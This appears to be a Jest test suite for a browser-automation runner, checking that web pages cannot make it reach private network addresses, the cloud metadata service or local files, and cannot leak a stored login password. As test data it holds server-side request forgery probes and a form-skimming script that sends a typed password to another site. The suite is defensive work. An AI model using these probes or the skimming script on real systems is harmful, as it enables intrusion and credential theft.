import { createSocket, type Socket } from 'node:dgram';
import { once } from 'node:events';
import { setTimeout as delay } from 'node:timers/promises';
import { findBrowser } from '@canopy/crawler';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { html, serveApp, type ServedApp } from '../testing/serve-app.ts';
import { startRun, type Run, type RunOptions } from './run-steps.ts';

/** Must never be reached: a server on the private network, via TCP and UDP. */
let trap: ServedApp;
let udp: Socket;
let datagrams = 0;
/** the target, and another public site */
let site: ServedApp;
let other: ServedApp;
let page = '';
let lookups = 0;

const LOGIN = { username: 'rosa@fern.example', password: 'quiet-green-7f3a' };
const lookup: NonNullable<RunOptions['lookup']> = async (name) => {
  if (name === 'rebind.test') lookups += 1;
  const addresses: Record<string, string> = {
    'site.test': '127.0.0.1',
    'other.test': '127.0.0.1',
    'private.test': '127.0.0.1',
    // A public address the first time, a private one from then on.
    'rebind.test': lookups <= 1 ? '198.51.100.7' : '127.0.0.1',
  };
  const address = addresses[name];
  if (address === undefined) throw Object.assign(new Error('no such name'), { code: 'ENOTFOUND' });
  return [{ address, family: 4 }];
};

beforeAll(async () => {
  trap = await serveApp((_request, response) => response.writeHead(200, { 'access-control-allow-origin': '*' }).end('secret'));
  udp = createSocket('udp4');
  udp.on('message', () => (datagrams += 1));
  udp.bind(trap.port, '127.0.0.1');
  await once(udp, 'listening');
  other = await serveApp((_request, response) => html(response, '<h1>Other site</h1>'));
  site = await serveApp((request, response) => {
    const { pathname, search } = new URL(request.url ?? '/', 'http://x');
    if (pathname === '/hop')
      return void response.writeHead(Number(search.slice(1, 4)), { location: decodeURIComponent(search.slice(5)) }).end();
    if (pathname === '/sw.js')
      return void response.writeHead(200, { 'content-type': 'text/javascript' }).end(`fetch('http://127.0.0.1:${trap.port}/worker')`);
    if (pathname === '/file')
      return void response.writeHead(200, { 'content-type': 'application/zip', 'content-disposition': 'attachment' }).end('zip');
    html(response, pathname === '/' ? page : '<h1>Signed in</h1>');
  });
});
afterAll(async () => {
  udp.close();
  await Promise.all([trap.close(), site.close(), other.close()]);
});
beforeEach(() => {
  lookups = 0;
  trap.requests.length = 0;
  other.requests.length = 0;
  other.received.length = 0;
  datagrams = 0;
});

const start = (options: Partial<RunOptions>): Promise<Run> =>
  startRun({
    url: `http://site.test:${site.port}`,
    login: null,
    confined: false,
    executable: findBrowser() ?? '',
    allowHosts: [`site.test:${site.port}`, `other.test:${other.port}`],
    lookup,
    maxBytes: 20_000_000,
    signal: new AbortController().signal,
    patience: { step: 3_000, load: 20_000 },
    ...options,
  });

async function withRun<T>(options: Partial<RunOptions>, work: (run: Run) => Promise<T>): Promise<T> {
  const run = await start(options);
  try {
    return await work(run);
  } finally {
    await run.close();
  }
}

describe('the private network', () => {
  const to = () => [
    `127.0.0.1:${trap.port}`,
    `localhost:${trap.port}`,
    `[::1]:${trap.port}`,
    `private.test:${trap.port}`,
    `rebind.test:${trap.port}`,
  ];
  const attempts = (): string[] => [
    ...to().flatMap((host) => [
      `fetch('http://${host}/fetch', { mode: 'no-cors' })`,
      `fetch('https://${host}/tls', { mode: 'no-cors' })`,
      `new WebSocket('ws://${host}/socket')`,
      `new WebSocket('wss://${host}/socket')`,
      `navigator.sendBeacon('http://${host}/beacon', 'x')`,
      `new Image().src = 'http://${host}/image'`,
      `document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://${host}/frame' }))`,
      `document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<script>fetch("http://${host}/srcdoc")<' + '/script>' }))`,
      `new Worker(URL.createObjectURL(new Blob(["fetch('http://${host}/worker');new WebSocket('ws://${host}/w')"])))`,
      `fetch('/hop?307=' + encodeURIComponent('http://${host}/redirected'), { method: 'POST', body: 'x', mode: 'no-cors' })`,
      `document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'http://${host}' }), Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'http://${host}/prefetch' }))`,
      `open('http://${host}/window')`,
    ]),
    `new EventSource('http://127.0.0.1:${trap.port}/events')`,
    `navigator.serviceWorker?.register('/sw.js')`,
    `new WebTransport('https://127.0.0.1:${trap.port}/wt')`,
    `{ const rtc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${trap.port}' }, { urls: 'turn:127.0.0.1:${trap.port}?transport=tcp', username: 'u', credential: 'c' }, { urls: 'turn:127.0.0.1:${trap.port}?transport=udp', username: 'u', credential: 'c' }] }); rtc.createDataChannel('x'); rtc.createOffer().then((offer) => rtc.setLocalDescription(offer)); }`,
    `{ const frame = document.createElement('iframe'); document.body.append(frame); const rtc = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${trap.port}' }] }); rtc.createDataChannel('x'); rtc.createOffer().then((offer) => rtc.setLocalDescription(offer)); }`,
    `open('file:///etc/passwd')`,
    `fetch('file:///etc/passwd')`,
    `document.body.append(Object.assign(document.createElement('iframe'), { src: '/file' }))`,
  ];

  it('is not reached by anything that a page does', async () => {
    page = `<h1>Start</h1><button>Try</button><p></p><script>const attempts = ${JSON.stringify(attempts()).replaceAll('<', '\\u003c')};
      document.querySelector('button').onclick = () => { let tried = 0; for (const attempt of attempts) { try { (0, eval)(attempt) } catch {} tried += 1; } document.title = 'Tried ' + tried; };</script>`;
    await withRun({}, async (run) => {
      expect(await run.step('open "/"')).toMatchObject({ success: true });
      // Steps follow newly opened windows, so these may fail; what matters is that all of it was tried.
      await run.step('click "Try"');
      const hops = () => site.requests.filter((request) => request.includes('/hop?307')).length;
      while (hops() < to().length) await delay(100);
      await run.step('wait 3 seconds');
    });
    expect({ requests: trap.requests, connections: trap.connections(), datagrams }).toEqual({ requests: [], connections: 0, datagrams: 0 });
  });
});

describe('an address that must not be reached', () => {
  // They share one browser: each checks first that it still opens pages.
  let run: Run;
  beforeAll(async () => {
    run = await start({});
  });
  afterAll(() => run.close());

  it.each([
    ['a private address', () => `http://127.0.0.1:${trap.port}/`],
    ['the metadata service', () => 'http://169.254.169.254/latest/meta-data/'],
    ['a name of a private address', () => `http://private.test:${trap.port}/`],
    ['a name that changes its address', () => `http://rebind.test:${trap.port}/`],
    ['a redirect there', () => `/hop?302=${encodeURIComponent(`http://127.0.0.1:${trap.port}/`)}`],
    ['a file', () => 'file:///etc/passwd'],
    ['a page of the browser', () => 'chrome://version'],
    ['the source of a page', () => `view-source:http://127.0.0.1:${trap.port}/`],
  ])(
    '%s is not opened by a step',
    async (_what, address) => {
      page = '<h1>Start</h1>';
      expect(await run.step('open "/"')).toMatchObject({ success: true });
      expect(await run.step(`open "${address()}"`)).toMatchObject({ success: false });
      if (lookups > 0) expect(await run.step(`open "${address()}"`)).toMatchObject({ success: false });
      expect({ requests: trap.requests, connections: trap.connections() }).toEqual({ requests: [], connections: 0 });
    },
    60_000,
  );
});

describe('the sign-in', () => {
  const form = (more: string, action = '/in') => `<form method="post" action="${action}"><label>Email <input name="u"></label>
    <label>Password <input type="password" name="p"></label><button>Sign in</button></form>${more}`;
  const elsewhere = () => `http://other.test:${other.port}`;
  const stolen = (host: string) => `document.querySelector('[name=p]').addEventListener('input', (event) => { const v = event.target.value;
    fetch('${host}/?v=' + v, { mode: 'no-cors' }).catch(() => 0); navigator.sendBeacon('${host}/', v); new Image().src = '${host}/' + btoa(v);
    try { new WebSocket('${host.replace('http', 'ws')}/' + v) } catch {} fetch('/hop?307=' + encodeURIComponent('${host}/r'), { method: 'POST', body: v, mode: 'no-cors' }).catch(() => 0); })`;

  it.each([
    ['a form that sends elsewhere', () => form('', `${elsewhere()}/in`), ['open "/"', 'sign in'], 'so the password is not typed'],
    [
      'a button that sends elsewhere',
      () => form('').replace('<button>', `<button formaction="${elsewhere()}/in">`),
      ['open "/"', 'sign in'],
      'so the password is not typed',
    ],
    [
      'a redirect with the form’s content',
      () => form('', `/hop?307=${encodeURIComponent(`${elsewhere()}/in`)}`),
      ['open "/"', 'sign in'],
      '',
    ],
    [
      'a field that shows it',
      () => '<label>Note <input></label>',
      ['open "/"', 'type the password into "Note"'],
      'only into password fields',
    ],
    [
      'a page of another site',
      () => '<h1>Start</h1>',
      () => [`open "${elsewhere()}/"`, 'sign in'],
      'but this page belongs to another site',
    ],
  ])(
    'does not go elsewhere by %s',
    async (_what, body, lines, reason) => {
      page = body();
      const said = typeof lines === 'function' ? lines() : lines;
      await withRun({ login: LOGIN }, async (run) => {
        const outcomes = [];
        for (const line of said) outcomes.push(await run.step(line));
        expect(outcomes.at(-1)).toMatchObject({ success: false, traceback: expect.stringContaining(reason) });
        expect(JSON.stringify(outcomes)).not.toContain(LOGIN.password);
      });
      expect(other.received.join()).not.toContain(LOGIN.password);
      expect(other.received.join()).not.toContain(Buffer.from(LOGIN.password).toString('base64').replaceAll('=', ''));
    },
    60_000,
  );

  it('does not go elsewhere by scripts while it stands in the page', async () => {
    page = form(`<script>fetch('${elsewhere()}/warm', { mode: 'no-cors' }); ${stolen(elsewhere())}</script>`);
    await withRun({ login: LOGIN }, async (run) => {
      await run.step('open "/"');
      // It is reachable before that.
      while (!other.requests.some((request) => request.includes('/warm'))) await delay(50);
      expect(await run.step('sign in')).toMatchObject({ success: true });
    });
    expect(other.received.join()).not.toContain(LOGIN.password);
    expect(other.received.join()).not.toContain(btoa(LOGIN.password).replaceAll('=', ''));
  });

  it('stands in no screenshot and no outline of a page that shows it', async () => {
    page = form(
      `<p></p><script>document.querySelector('[name=p]').addEventListener('input', (event) => { document.querySelector('p').textContent = event.target.value; document.title = event.target.value; location.hash = event.target.value })</script>`,
    );
    await withRun({ login: LOGIN }, async (run) => {
      await run.step('open "/"');
      const typed = await run.step('type the password into "Password"');
      expect(typed).toMatchObject({ success: true, screenshot: null, note: expect.stringContaining('no screenshot') });
      const checks = [await run.step('title should be "x"'), await run.step('url should be "x"')];
      expect(JSON.stringify([typed, checks, await run.outline()])).not.toContain(LOGIN.password);
      expect(checks[0]?.traceback).toBe('The title is “•••”.');
    });
  });
});
